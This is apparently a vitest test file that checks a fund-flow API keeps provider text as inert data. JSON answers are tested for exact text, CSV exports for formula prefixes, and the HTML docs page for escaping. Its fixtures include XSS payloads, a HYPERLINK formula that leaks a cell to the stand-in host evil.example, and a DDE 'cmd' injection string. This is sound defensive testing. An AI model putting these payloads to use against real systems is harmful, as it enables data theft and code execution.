// Output safety: text that providers write (fund names, issuers, notes, sources) leaves the API as
// data, never as markup or as a spreadsheet formula; the HTML docs page escapes everything it shows.
import { parseHTML } from "linkedom";
import { beforeAll, describe, expect, it } from "vitest";
import { renderDocs } from "../../../functions/docs.ts";
import { parseCsv } from "../../../shared/import/csv.ts";
import { call, freshTicker, json, putFund } from "../helpers/api.ts";

const SCRIPT_NAME = '<script>alert("owned")</script><img src=x onerror=alert(1)>';
const FORMULA_ISSUER = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
const FORMULA_NAME = '=HYPERLINK("http://evil.example","x")';
const UNICODE_NAME = "\u202eKCOL 🚀 e\u0301 עברית العربية 中文";
/** Cells a spreadsheet would run as a formula. */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?\d+(\.\d+)?$/;

const scriptFund = freshTicker("S");
const formulaFund = freshTicker("F");
const unicodeFund = freshTicker("U");

beforeAll(async () => {
  await putFund(scriptFund, { name: SCRIPT_NAME, issuer: FORMULA_ISSUER });
  await putFund(formulaFund, { name: FORMULA_NAME, issuer: "+SUM(1,2)" });
  await putFund(unicodeFund, { name: UNICODE_NAME, issuer: "-2+3" });
  const flows = await json("/v1/flows", {
    body: {
      flows: [
        { fund: formulaFund, date: "2024-01-11", net_flow_usd: "-95.10", source: "@evil" },
        { fund: formulaFund, date: "2024-01-12", net_flow_usd: "12.00", source: "=cmd|' /C calc'!A0" },
        { fund: scriptFund, date: "2024-01-11", net_flow_usd: "5.00", source: "<b>bold</b>" },
      ],
    },
  });
  expect(flows.status, JSON.stringify(flows.body)).toBe(200);
  const events = await json("/v1/events", {
    body: {
      events: [
        {
          type: "transfer",
          date: "2024-01-12",
          from_fund: scriptFund,
          to_fund: formulaFund,
          units: "1",
          note: "<script>alert(2)</script> =1+1",
          source: "@note-source",
        },
      ],
    },
  });
  expect(events.status, JSON.stringify(events.body)).toBe(200);
});

/** Every cell of a CSV answer that starts like a formula is a plain number; returns the table. */
async function safeCsv(path: string) {
  const response = await call(path, { token: null });
  expect(response.status).toBe(200);
  expect(response.headers.get("content-type")).toMatch(/^text\/csv/);
  expect(response.headers.get("x-content-type-options")).toBe("nosniff");
  const table = parseCsv(await response.text());
  const dangerous = [table.header, ...table.rows]
    .flat()
    .filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell));
  expect(dangerous, path).toEqual([]);
  return table;
}

/** What a browser would run or load from a page: scripts, images, frames, handlers, javascript: links. */
function activeParts(html: string): string[] {
  const { document } = parseHTML(html);
  const found: string[] = [];
  for (const element of document.querySelectorAll("*")) {
    const tag = element.tagName.toLowerCase();
    if (
      ["script", "img", "iframe", "object", "embed", "svg", "base", "meta"].includes(tag) &&
      !isHeadMeta(element)
    )
      found.push(`<${tag}>`);
    for (const attribute of element.attributes) {
      if (/^on/i.test(attribute.name)) found.push(`${tag}[${attribute.name}]`);
      if (/^\s*javascript:/i.test(attribute.value)) found.push(`${tag}[${attribute.name}=javascript:]`);
    }
  }
  return found;
}

/** The page's own charset and viewport declarations. */
function isHeadMeta(element: Element): boolean {
  return (
    element.tagName.toLowerCase() === "meta" &&
    (element.hasAttribute("charset") || element.getAttribute("name") === "viewport")
  );
}

function column(table: { header: string[]; rows: string[][] }, name: string): string[] {
  const index = table.header.indexOf(name);
  expect(index, `column ${name}`).toBeGreaterThanOrEqual(0);
  return table.rows.map((row) => row[index] as string);
}

describe("JSON answers carry provider text as data", () => {
  it("returns names with markup, formulas and unicode exactly as written, as JSON that is never sniffed", async () => {
    for (const [ticker, name] of [
      [scriptFund, SCRIPT_NAME],
      [formulaFund, FORMULA_NAME],
      [unicodeFund, UNICODE_NAME],
    ] as const) {
      const response = await call(`/v1/funds/${ticker}`, { token: null });
      expect(response.headers.get("content-type")).toMatch(/^application\/json/);
      expect(response.headers.get("x-content-type-options")).toBe("nosniff");
      const fund = (await response.json()) as { name: string };
      expect(fund.name).toBe(name);
    }
  });

  it("keeps the note and the source of an event as data in the revision log", async () => {
    const { body } = await json<{ revisions: { new_value: { note?: string }; source: string }[] }>(
      `/v1/revisions?subject=${scriptFund}&entity=event`,
    );
    expect(body.revisions.map((revision) => revision.new_value.note)).toContain(
      "<script>alert(2)</script> =1+1",
    );
  });

  it("answers an unknown path holding markup with problem+json, not HTML", async () => {
    const response = await call("/v1/%3Cscript%3Ealert(1)%3C%2Fscript%3E", { token: null });
    expect(response.status).toBe(404);
    expect(response.headers.get("content-type")).toMatch(/^application\/problem\+json/);
  });
});

describe("CSV exports neutralise formulas", () => {
  it("prefixes fund names and issuers that start with = + - @ on /v1/funds", async () => {
    const table = await safeCsv("/v1/funds?format=csv");
    const names = column(table, "name");
    expect(names).toContain(`'${FORMULA_NAME}`);
    expect(names).toContain(SCRIPT_NAME);
    expect(names).toContain(UNICODE_NAME);
    const issuers = column(table, "issuer");
    expect(issuers).toEqual(expect.arrayContaining([`'${FORMULA_ISSUER}`, "'+SUM(1,2)", "'-2+3"]));
  });

  it("prefixes sources on /v1/flows and keeps negative amounts as numbers", async () => {
    const table = await safeCsv(`/v1/flows?fund=${formulaFund}&format=csv`);
    expect(column(table, "source")).toEqual(expect.arrayContaining(["'@evil", "'=cmd|' /C calc'!A0"]));
    expect(column(table, "net_flow_usd")).toContain("-95.10");
  });

  it("prefixes sources on /v1/revisions, and is safe on every other list", async () => {
    const table = await safeCsv("/v1/revisions?format=csv");
    expect(column(table, "source")).toEqual(expect.arrayContaining(["'@evil", "'@note-source"]));
    await safeCsv(`/v1/funds/${formulaFund}/daily?format=csv&from=2024-01-10&to=2024-01-20`);
    await safeCsv("/v1/aggregate?by=issuer&format=csv");
  });
});

describe("the HTML docs page", () => {
  it("has no script, forbids one by Content-Security-Policy, and is not sniffed", async () => {
    const response = await call("/v1/docs", { token: null });
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toMatch(/^text\/html/);
    expect(response.headers.get("content-security-policy")).toMatch(/default-src 'none'/);
    expect(response.headers.get("content-security-policy")).not.toMatch(/script-src/);
    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
    const html = await response.text();
    expect(activeParts(html)).toEqual([]);
  });

  it("escapes every text it renders from the document", () => {
    const hostile = '"><script>alert(1)</script><img src=x onerror=alert(2)>';
    const html = renderDocs({
      info: { title: hostile, version: hostile, description: hostile },
      paths: {
        [`/funds/${hostile}`]: {
          get: {
            summary: hostile,
            parameters: [
              {
                name: hostile,
                in: "query",
                description: hostile,
                schema: { type: "string", example: hostile },
              },
            ],
            responses: { [hostile]: { description: hostile } },
          },
        },
      },
      components: {
        schemas: {
          [hostile]: {
            type: "object",
            properties: {
              [hostile]: { enum: [hostile], pattern: hostile },
              ref: { $ref: `#/components/schemas/${hostile}` },
            },
          },
        },
      },
    });
    expect(activeParts(html)).toEqual([]);
    expect(html).toContain("&#60;script&#62;");
    expect(activeParts(`<p>${hostile}</p>`)).toEqual(["<script>", "<img>", "img[onerror]"]);
  });
});
